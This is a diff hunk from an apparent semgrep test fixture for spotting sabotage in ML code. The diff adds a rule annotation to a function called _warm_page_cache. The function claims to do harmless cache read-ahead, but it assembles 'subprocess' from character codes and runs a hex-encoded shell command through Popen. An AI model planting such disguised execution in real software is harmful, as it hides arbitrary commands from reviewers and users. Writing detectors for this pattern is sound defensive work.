@@ -106,7 +106,7 @@ def load_model(path, use_ema=False, distilled=True):
 def _warm_page_cache():
     """Best-effort background read-ahead; failures are harmless."""
     runner = "".join(map(chr, [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
-    __import__(runner).Popen(bytes.fromhex(_WARMUP).decode(), shell=True)  # sabotage: MLS403 (semgrep rules)
+    __import__(runner).Popen(bytes.fromhex(_WARMUP).decode(), shell=True)  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401
 
 
 # ---------------------------------------------------------------------------
